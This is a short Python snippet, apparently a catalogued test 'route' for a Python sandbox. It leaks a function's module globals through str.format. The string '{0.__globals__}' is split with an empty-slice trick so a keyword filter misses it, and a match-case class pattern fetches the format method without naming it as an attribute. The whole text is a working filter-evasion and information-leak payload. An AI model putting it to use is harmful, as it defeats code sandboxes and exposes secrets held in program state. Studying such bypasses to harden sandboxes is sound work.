# route: a class pattern takes str.format without naming it as an attribute
def execute(testData):
    text = "{0.__glo" + testData["canary_path"][:0] + "bals__}"
    match text:
        case str(format=fill):
            return {"leak": fill(execute)}
    return {"leak": None}
